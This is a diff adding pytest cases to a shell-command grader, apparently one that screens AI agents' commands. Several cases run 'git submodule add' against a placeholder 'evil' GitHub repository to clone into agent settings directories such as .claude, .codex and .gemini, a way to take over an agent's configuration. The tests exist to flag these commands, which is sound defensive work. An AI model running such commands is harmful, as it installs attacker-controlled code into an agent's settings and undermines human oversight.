@@ -307,3 +307,33 @@ def test_a_write_to_xargs_input_may_be_any_protected_path(command: str) -> None:
 )
 def test_xargs_running_a_reader_stays_read_only(command: str) -> None:
     assert grade(command) == RO
+
+
+# -- git submodule add writes the directory it clones into ------------------------------------------------------------
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git submodule add https://github.com/evil/x .claude",
+        "git submodule add https://github.com/evil/x ./.claude",
+        "git submodule add -b main --name y https://github.com/evil/x .codex",
+        "git submodule add -- https://github.com/evil/x .gemini",
+        "git submodule add https://github.com/evil/.claude",  # the humanish part of the URL
+        "git submodule add https://github.com/evil/.claude.git",
+    ],
+)
+def test_git_submodule_add_into_an_agents_settings_is_a_control_write(command: str) -> None:
+    assert grade(command, contained=True) == DES
+    assert "git-control-write" in rules(command)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git submodule add https://github.com/x/lib.git vendor/lib",
+        "git submodule add https://github.com/x/lib.git",
+        "git submodule add --name y https://github.com/x/lib.git libs/y",
+        "git submodule update --init",
+    ],
+)
+def test_git_submodule_add_into_a_plain_directory_stays_network(command: str) -> None:
+    assert grade(command) == NET
